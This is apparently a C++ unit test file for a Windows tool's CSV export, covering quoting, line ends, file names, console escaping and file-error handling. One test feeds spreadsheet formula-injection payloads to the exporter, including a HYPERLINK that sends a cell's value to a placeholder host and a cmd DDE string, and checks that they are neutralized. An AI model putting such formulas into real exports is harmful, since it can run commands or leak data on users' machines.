// CSV files of a result list: exact bytes, quoting, line ends, display order, the proposed
// names, and real file errors (a missing folder, Linux's /dev/full as a full disk).
#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "engine/survey_reporter.h"
#include "listtools/csv_export.h"
#include "listtools/result_model.h"
#include "listtools/sort_compare.h"
#include "listtools/text_sink.h"
#include "base/narrow.h"
#include "base/console_text.h"
#include "resources/text.h"
#include "tests/support/recording_reporter.h"
#include "tests/support/temp_files.h"

namespace {

ResultModel Model(std::vector<std::string> headers, std::vector<std::vector<std::string>> rows)
{
    ResultModel model;
    for (std::string& header : headers)
        model.AddColumn(ResultColumn{std::move(header)});
    LPARAM tag = 0;
    for (std::vector<std::string>& cells : rows)
        model.AppendRow(ResultRow{std::move(cells), tag++});
    return model;
}

std::string Csv(const ResultModel& model)
{
    StringTextSink sink;
    RecordingReporter messages;
    EXPECT_EQ(WriteCsv(model, sink, "x", messages), ExportResult::Done);
    return sink.Text();
}

class CsvFileTest : public testing::Test {
protected:
    void SetUp() override { SetTextLanguage(kEnglishLanguage); }
    void TearDown() override { SetTextLanguage(0); }
    RecordingReporter reporter_;
};

}  // namespace

TEST(CsvExport, HeaderOfNameAndDeviceIdIsSeventeenCharacters)
{
    std::string header = CsvHeaderLine(Model({"Name", "DeviceID"}, {}));
    EXPECT_EQ(header, "\"Name\",\"DeviceID\"\r\n");
    EXPECT_EQ(header.size() - 2, 17u);
    EXPECT_EQ(Csv(Model({"Name", "DeviceID"}, {})), "\"Name\",\"DeviceID\"\r\n");
}

TEST(CsvExport, RowsInDisplayOrderWithCrLfAndEmptyCells)
{
    ResultModel model = Model({"Name", "Size"}, {{"C:", "100"}, {"A:", ""}, {"B:", "7"}});
    model.SortRows([](const ResultRow& a, const ResultRow& b) { return a.cells[0] < b.cells[0]; });
    EXPECT_EQ(Csv(model),
              "\"Name\",\"Size\"\r\n"
              "\"A:\",\"\"\r\n"
              "\"B:\",\"7\"\r\n"
              "\"C:\",\"100\"\r\n");
}

TEST(CsvExport, QuoteInsideACellIsDoubled)
{
    EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
    EXPECT_EQ(CsvField("\""), "\"\"\"\"");
    EXPECT_EQ(CsvField(""), "\"\"");
    EXPECT_EQ(Csv(Model({"Name"}, {{"Drive \"B\""}})), "\"Name\"\r\n\"Drive \"\"B\"\"\"\r\n");
}

TEST(CsvExport, CellsASpreadsheetWouldRunAreWrittenAsText)
{
    EXPECT_EQ(CsvField("=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")"),
              "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Click\"\")\"");
    for (std::string cell : {"+cmd|' /C calc'!A0", "@SUM(1,2)", "-2+3", "\t=1", "\r=1", "-", "-1,02"})
        EXPECT_EQ(CsvField(cell), "\"'" + cell + "\"");
    for (std::string cell : {"-1", "-1,024", "-3.5", "+12", "-.5", "-1,234,567.25", "a=b", ""})
        EXPECT_EQ(CsvField(cell), "\"" + cell + "\"") << "numbers and other texts stay as they are";
    EXPECT_EQ(CsvField("@SUM(1,2)", CsvCells::Raw), "\"@SUM(1,2)\"");
}

TEST(CsvExport, MissingCellsOfAShortRowAreEmpty)
{
    EXPECT_EQ(Csv(Model({"A", "B", "C"}, {{"1"}})), "\"A\",\"B\",\"C\"\r\n\"1\",\"\",\"\"\r\n");
}

TEST(CsvExport, TextOfAnyScriptIsWrittenUnchanged)
{
    // Only the real quote is doubled.
    const std::string japanese = "表示「ソフト」 café ✓ 𝄞";
    EXPECT_EQ(CsvField(japanese + "\""), "\"" + japanese + "\"\"\"");
}

TEST(CsvExport, ProposedNames)
{
    EXPECT_EQ(ProposedClassCsvName("pc01", "Win32_Processor"), "pc01_Win32_Processor.csv");
    EXPECT_EQ(ProposedClassCsvName("", "Win32_Processor"), "Win32_Processor.csv");
    EXPECT_EQ(ProposedClassCsvName("pc01", "  Win32_Processor (CPU)  "), "pc01_Win32_Processor.csv");
    EXPECT_EQ(ProposedClassCsvName("pc01", " \t "), "pc01_.csv");
    EXPECT_EQ(ProposedCategoryCsvName("", "Disk Drive"), "Disk Drive.csv");
    EXPECT_EQ(ProposedCategoryCsvName("pc01", "Quick Fix Engineering"),
              "pc01_Quick Fix Engineering.csv");
}

TEST(CsvExport, CommasAndLineBreaksStayInsideTheQuotedFieldAsTheyCame)
{
    ResultModel model = Model({"A", "B"}, {{"1,5", "two\r\nlines"}, {"", "unix\nlines"}, {"", "old\rmac"}});
    EXPECT_EQ(Csv(model), "\"A\",\"B\"\r\n\"1,5\",\"two\r\nlines\"\r\n\"\",\"unix\nlines\"\r\n\"\",\"old\rmac\"\r\n");
}

// A console window stands in for the screen here: the real one is not there under the tests.
class ScreenSink : public StringTextSink {
public:
    bool OnScreen() const override { return true; }
};

TEST(CsvExport, ControlCharactersAreDataInAFileAndEscapesOnAConsole)
{
    const std::string bell = "ring\a", escape = "\x1B[2Jgone", nul = std::string("a\0b", 3);
    ResultModel model = Model({"A"}, {{bell}, {escape}, {nul}, {"two\r\nlines\ttab"}, {"csi\xC2\x9B"}});
    StringTextSink file;
    file.SetEncoding(TextEncoding::Utf8);
    RecordingReporter messages;
    ASSERT_EQ(WriteCsv(model, file, "x", messages), ExportResult::Done);
    EXPECT_EQ(file.Text(), "\"A\"\r\n\"ring\a\"\r\n\"\x1B[2Jgone\"\r\n\"a\xEF\xBF\xBD" "b\"\r\n"
                          "\"two\r\nlines\ttab\"\r\n\"csi\xC2\x9B\"\r\n")
        << "a file keeps values as data; NUL as U+FFFD, as the lists show it";
    ScreenSink screen;
    screen.SetEncoding(TextEncoding::Utf8);
    ASSERT_EQ(WriteCsv(model, screen, "x", messages), ExportResult::Done);
    EXPECT_EQ(screen.Text(), "\"A\"\r\n\"ring\\a\"\r\n\"\\e[2Jgone\"\r\n\"a\\0b\"\r\n"
                             "\"two\\r\\nlines\ttab\"\r\n\"csi\\u009B\"\r\n");
    EXPECT_EQ(ShownOnConsole(L"line\r\n\x07\x7F\x01", true), L"line\r\n\\a\\x7F\\x01");
}

TEST(TextSink, EveryLineFeedBecomesCrLf)
{
    EXPECT_EQ(ToTextModeLineEnds("a\nb\n\n"), "a\r\nb\r\n\r\n");
    EXPECT_EQ(ToTextModeLineEnds("a\r\n"), "a\r\r\n") << "as a text-mode file stores it";
    EXPECT_EQ(ToTextModeLineEnds(""), "");
}

TEST_F(CsvFileTest, SavedFileHoldsTheBytes)
{
    const std::string path = TempPath("mirel_csv_test.csv");
    ResultModel model = Model({"Group", "Name"}, {{"1", "x\"y"}});
    ASSERT_EQ(SaveCsv(model, path, reporter_), ExportResult::Done);
    EXPECT_EQ(ReadFile(path), "\"Group\",\"Name\"\r\n\"1\",\"x\"\"y\"\r\n");
    EXPECT_TRUE(reporter_.messages.empty());
    DeleteFileA(path.c_str());
}

TEST_F(CsvFileTest, MissingFolderGivesTheOpenError)
{
    const std::string path = TempPath("mirel-no-such-folder\\list.csv");
    EXPECT_EQ(SaveCsv(Model({"A"}, {{"1"}}), path, reporter_), ExportResult::OpenFailed);
    ASSERT_EQ(reporter_.messages.size(), 1u);
    EXPECT_EQ(reporter_.messages[0].text, "File Open Error.\n\nFile Name : " + path);
    EXPECT_EQ(reporter_.messages[0].flags, static_cast<UINT>(MB_ICONEXCLAMATION));
}

TEST_F(CsvFileTest, FullDiskGivesTheWriteError)
{
    EXPECT_EQ(SaveCsv(Model({"A"}, {{"1"}, {"2"}}), "Z:\\dev\\full", reporter_), ExportResult::WriteFailed);
    ASSERT_EQ(reporter_.messages.size(), 1u);
    EXPECT_EQ(reporter_.messages[0].text, "File Write Error.\n\nFile Name : Z:\\dev\\full");
    EXPECT_EQ(reporter_.messages[0].flags, static_cast<UINT>(MB_ICONEXCLAMATION));
    WIN32_FIND_DATAA found{};
    EXPECT_EQ(FindFirstFileA("Z:\\dev\\~mirel*", &found), INVALID_HANDLE_VALUE)
        << "a device is written directly, with no temporary file beside it";
}

TEST_F(CsvFileTest, SaveReplacesAFileWholeOrNotAtAll)
{
    TempFolder folder("mirel-csv-save");
    const std::string path = folder.File("list.csv"), previous = "\"A\"\r\n\"a longer list\"\r\n";
    WriteFileBytes(path, previous);
    {
        // A reader that does not let the file be deleted under it: it cannot be replaced.
        UniqueHandle reader(CreateFileA(path.c_str(), GENERIC_READ,
                                            FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr, OPEN_EXISTING, 0, nullptr));
        EXPECT_EQ(SaveCsv(Model({"A"}, {{"1"}}), path, reporter_), ExportResult::WriteFailed);
        EXPECT_EQ(reporter_.messages.at(0).text, "File Write Error.\n\nFile Name : " + path);
    }
    EXPECT_EQ(ReadFile(path), previous) << "byte for byte";
    EXPECT_EQ(SaveCsv(Model({"A"}, {{"=1"}}), path, reporter_), ExportResult::Done);
    EXPECT_EQ(ReadFile(path), "\"A\"\r\n\"'=1\"\r\n") << "nothing of the longer file remains";
    EXPECT_EQ(folder.Entries(), std::vector<std::string>{"list.csv"}) << "no temporary file";
}

TEST_F(CsvFileTest, FileSinkReportsAWriteAfterClosing)
{
    const std::string path = TempPath("mirel_sink_test.txt");
    FileTextSink sink;
    ASSERT_TRUE(sink.Open(path));
    EXPECT_TRUE(sink.Write("one\n"));
    EXPECT_TRUE(sink.Finish());
    EXPECT_FALSE(sink.Write("two\n")) << "a closed file takes nothing";
    EXPECT_FALSE(sink.Finish());
    EXPECT_EQ(ReadFile(path), "one\r\n");
    DeleteFileA(path.c_str());
}

// A time the list shows in the user's format sorts, and is saved, by its ISO 8601 text.
TEST(CsvTimes, ACellShownInTheUsersFormatSortsAndIsSavedByItsSortText)
{
    ResultModel model;
    model.AddColumn(ResultColumn{"Check"});
    model.AddColumn(ResultColumn{"Checked at"});
    model.AppendRow(ResultRow{{"2", "1/2/2027 9:00 AM"}, 0, -1, 0, {{}, "2027-01-02T09:00:00Z"}});
    model.AppendRow(ResultRow{{"1", "12/31/2026 11:00 PM"}, 1, -1, 0, {{}, "2026-12-31T23:00:00Z"}});
    model.AppendRow(ResultRow{{"3", "no time"}, 2});
    SortModel(model, 1, SortKeys::Text, true);
    EXPECT_EQ(model.Cell(0, 0), "1") << "2026 before 2027, though \"12/...\" sorts after \"1/...\" as shown";
    EXPECT_EQ(model.Cell(1, 0), "2");
    EXPECT_EQ(model.Cell(2, 0), "3");
    EXPECT_EQ(Csv(model), "\"Check\",\"Checked at\"\r\n\"1\",\"2026-12-31T23:00:00Z\"\r\n\"2\",\"2027-01-02T09:00:00Z\"\r\n"
                          "\"3\",\"no time\"\r\n");
}
